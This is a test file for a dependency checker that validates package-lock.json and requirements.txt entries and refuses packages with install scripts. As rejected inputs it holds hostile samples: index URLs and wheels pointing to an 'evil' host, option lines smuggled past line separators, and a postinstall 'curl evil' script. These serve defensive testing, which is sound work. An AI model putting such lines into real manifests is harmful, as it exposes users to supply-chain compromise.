import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { makeTestFolder } from '../../../test/support/test-folder.js';
import { missingPackages, refuseInstallScripts } from './packages.js';

// real: files; mock: nothing

let folder: string;
beforeEach(() => {
  folder = makeTestFolder();
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

function put(files: Readonly<Record<string, unknown>>): void {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), typeof content === 'string' ? content : JSON.stringify(content));
  }
}
const missing = async () => (await missingPackages(folder)).map(({ named }) => named);

it.each([
  ['no packages at all', {}, []],
  [
    'a manifest that names none',
    { 'package.json': { devDependencies: { a: '1' } }, 'requirements.txt': '# none\n' },
    [],
  ],
  [
    'packages of both kinds',
    { 'package.json': { dependencies: { a: '1' } }, 'requirements.txt': 'a==1' },
    ['package.json', 'requirements.txt'],
  ],
  [
    'packages that come along',
    { 'package.json': { dependencies: { a: '1' } }, 'node_modules/a/index.js': '' },
    [],
  ],
])('%s', async (_what, files, named) => {
  put(files);
  expect(await missing()).toEqual(named);
});

describe('package-lock.json', () => {
  const check = async (packages: object, lockfileVersion = 3): Promise<void> => {
    put({ 'package.json': { dependencies: { a: '1' } } });
    const [npm] = await missingPackages(folder);
    npm?.check(['', JSON.stringify({ lockfileVersion, packages })]);
  };
  const good = { resolved: 'http://127.0.0.1/a/-/a-1.0.0.tgz', integrity: 'sha512-x' };

  it('may name tarballs of a registry with their hashes', async () => {
    const packages = { '': {}, 'node_modules/a': good, 'node_modules/@s/b/node_modules/c': good };
    await expect(check(packages)).resolves.toBeUndefined();
  });

  it.each([
    ['a folder outside', { '../out': good }],
    ['one further down', { 'node_modules/../../out': good }],
    ['a workspace', { 'node_modules/a': { link: true, resolved: 'a' } }],
    ['a folder of the bundle', { 'node_modules/a': { resolved: 'file:a' } }],
    ['a repository', { 'node_modules/a': { resolved: 'git+ssh://git@h/a.git#1', integrity: 'sha512-x' } }],
    ['a tarball without its hash', { 'node_modules/a': { resolved: good.resolved } }],
  ])('may not name %s', async (_what, packages) => {
    await expect(check(packages)).rejects.toThrow(/^package-lock.json (names|has no)/);
  });

  it('is needed, and must say where each package lies', async () => {
    await expect(check({}, 1)).rejects.toThrow(/version 2 or 3/);
    const [npm] = await missingPackages(folder);
    expect(() => npm?.check(['', ''])).toThrow(/package-lock.json is needed/);
  });
});

describe('requirements.txt', () => {
  const check = async (text: string): Promise<void> => {
    put({ 'requirements.txt': text });
    const [pip] = await missingPackages(folder);
    pip?.check([text]);
  };

  it('may name versions of packages', async () => {
    const hash = `--hash=sha256:${'0'.repeat(64)}`;
    const text = `# pinned\nA_b.c[x,y]==1.0.post1+cpu ; python_version >= "3.8" # why\nd==2 \\\n  ${hash} \\\n  ${hash}\r\n`;
    await expect(check(text)).resolves.toBeUndefined();
  });

  it.each([
    ...[
      'a',
      'a>=1',
      'a==1,>2',
      '-r other.txt',
      '-e .',
      '--index-url http://evil/simple',
      'a @ http://evil/a.whl',
    ],
    ...['./a.whl', 'git+https://evil/a', 'a==${HOME}', 'a==1 --index-url http://evil', 'a==1 ; x --no-index'],
    ...['a==1 #\u2028--index-url http://evil', 'a==1\v--index-url http://evil', 'a==1\r--pre'],
  ])('may not say %j', async (line) => {
    await expect(check(`b==1\n${line}\n`)).rejects.toThrow(/^requirements.txt must/);
  });
});

it.each([
  [
    'a script',
    { 'node_modules/@s/bad/package.json': { scripts: { postinstall: 'curl evil' } } },
    /@s\/bad, which needs its postinstall script/,
  ],
  [
    'a build',
    {
      'node_modules/a/node_modules/bad/package.json': {},
      'node_modules/a/node_modules/bad/binding.gyp': '{}',
    },
    /names bad, which needs to be built/,
  ],
])('a package that needs %s is named', async (_what, files, why) => {
  put({ 'node_modules/good/package.json': { scripts: { test: 'x', prepare: 'y' } }, ...files });
  await expect(refuseInstallScripts(folder)).rejects.toThrow(why);
});
